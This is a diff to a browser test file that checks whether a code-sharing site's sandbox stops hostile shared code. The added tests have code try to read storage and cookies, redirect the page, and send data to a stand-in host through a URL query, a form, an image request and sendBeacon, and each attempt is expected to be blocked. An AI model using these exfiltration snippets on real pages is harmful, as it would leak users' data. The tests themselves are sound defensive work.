@@ -53,7 +53,7 @@ test('2 templates: shared code is shown, named as foreign, and not run before th
 });
 
 test.describe('2 templates: reading what is not its own', () => {
-  test.use({expected: /Blocked/});
+  test.use({expected: /Blocked|Unsafe attempt|Content Security Policy/});
 
   for (const [what, expression, answer] of [
     ['localStorage', 'localStorage.length + String(localStorage.getItem("secret"))', 'got: 0null'],
@@ -62,6 +62,10 @@ test.describe('2 templates: reading what is not its own', () => {
     ['document.cookie', 'document.cookie', 'refused: SecurityError'],
     ['indexedDB', 'indexedDB.open("a")', 'refused: SecurityError'],
     ['a window of its own', 'window.open("/")', 'got: null'],
+    ['a window of another site', 'window.open("https://elsewhere.example/")', 'got: null'],
+    ['the answer of another host', 'await fetch("https://elsewhere.example/")', 'refused: TypeError'],
+    ['the answer of the site', 'await fetch("/")', 'refused: TypeError'],
+    ['the place of the page', 'top.location = "https://elsewhere.example/"', 'refused: SecurityError'],
   ] as const) {
     test(`2 templates: hostile code that reads ${what} achieves nothing`, async ({page}) => {
       await openShared(page, attempt(expression));
@@ -105,15 +109,41 @@ for (const [what, code] of [
   });
 }
 
-test.describe('2 templates: leading the frame elsewhere', () => {
+test.describe('2 templates: hostile code that wants to send something', () => {
   test.use({expected: /Content Security Policy/});
 
-  test('2 templates: hostile code that leads its frame elsewhere is stopped', async ({page}) => {
-    await openShared(page, "location.href = 'data:text/html,elsewhere';");
-    await run(page);
-    await expect(page.locator('[data-shown=true]')).toContainText('tried to open another page');
-    await expect(page.locator('iframe')).toHaveCount(0);
-  });
+  // A request to another host fails these tests.
+  for (const [how, code] of [
+    ['a page it brings', "location.href = 'data:text/html,elsewhere';"],
+    ['another host', "location.href = 'https://elsewhere.example/?all-it-knows';"],
+    [
+      'another host by a form',
+      'document.body.innerHTML = \'<form action="https://elsewhere.example/">\'; document.forms[0].submit();',
+    ],
+  ] as const) {
+    test(`2 templates: hostile code that leads its frame to ${how} is stopped`, async ({page}) => {
+      await openShared(page, code);
+      await run(page);
+      await expect(page.locator('[data-shown=true]')).toContainText('tried to open another page');
+      await expect(page.locator('iframe')).toHaveCount(0);
+    });
+  }
+
+  for (const [what, send] of [
+    ['a picture', 'new Image().src = address;'],
+    ['a beacon', 'navigator.sendBeacon(address);'],
+  ] as const) {
+    test(`2 templates: hostile code that sends ${what} to another host is refused`, async ({page}) => {
+      await openShared(
+        page,
+        `const address = 'https://elsewhere.example/'; const box = document.body; ${send} box.append('it went on');`,
+      );
+      const refusal = page.waitForEvent('console', (message) => message.text().includes('Content Security Policy'));
+      await run(page);
+      await refusal;
+      await expect(output(page).locator('body')).toContainText('it went on');
+    });
+  }
 });
 
 test('2 templates: another link on the same page asks again', async ({page}) => {
@@ -142,6 +172,7 @@ test('2 templates: changes to shared code stay in the address', async ({page}) =
 for (const [what, hash, message] of [
   ['a broken link', '#code=abc', 'This link is broken'],
   ['a link that is too large', `#code=${'A'.repeat(40_000)}`, 'The code in this link is too large.'],
+  ['a link of another version', '#code2=abc', 'another version of the site made it'],
   ['an address without code', '', 'This address carries no code.'],
 ] as const) {
   test(`2 templates: ${what} says so`, async ({page}) => {
@@ -149,6 +180,25 @@ for (const [what, hash, message] of [
     await expect(page.getByRole('alert').filter({hasText: message})).toBeVisible();
   });
 }
+
+test('2 templates: a link that was cut off says so', async ({page}) => {
+  const link = await linkTo('// a note of some length, so that a good part of it can be missing');
+  await open(page, link.slice(0, -40));
+  await expect(page.getByRole('alert').filter({hasText: 'a part of it is missing'})).toBeVisible();
+});
+
+test('2 templates: after a broken link, Back brings the code with its changes', async ({page}) => {
+  await openShared(page, '// start');
+  await page.locator('.cm-content').click();
+  await page.keyboard.press('ControlOrMeta+End');
+  await page.keyboard.type(' and end');
+  const before = page.url();
+  await expect.poll(() => page.url()).not.toBe(before);
+  await page.evaluate(() => (window.location.hash = `#code=${'A'.repeat(1_500_000)}`));
+  await expect(page.getByRole('alert').filter({hasText: 'too large'})).toBeVisible();
+  await page.goBack();
+  await expect(page.locator('.cm-content')).toHaveText('// start and end');
+});
 
 test('2 templates: Share makes a link that opens the edited code', async ({page, context}) => {
   await context.grantPermissions(['clipboard-read', 'clipboard-write']);
